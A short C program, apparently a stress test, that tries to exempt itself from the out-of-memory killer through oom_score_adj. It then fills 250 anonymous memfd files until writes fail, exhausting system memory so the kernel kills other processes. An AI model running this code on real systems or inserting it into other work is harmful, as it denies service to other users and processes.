/* Hides memory in files without a name, after it has asked the kernel to kill anybody else for it. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>

int main(void)
{
	char *block = malloc(1 << 20);
	int blame = open("/proc/self/oom_score_adj", O_WRONLY);
	if (blame >= 0 && write(blame, "-1000", 5) < 0 && write(blame, "0", 1) < 0)
		close(blame);
	signal(SIGXFSZ, SIG_IGN);
	for (int i = 0; i < 250; i++) {
		int fd = memfd_create("hidden", 0);
		while (write(fd, block, 1 << 20) > 0)
			;
	}
	return 0;
}
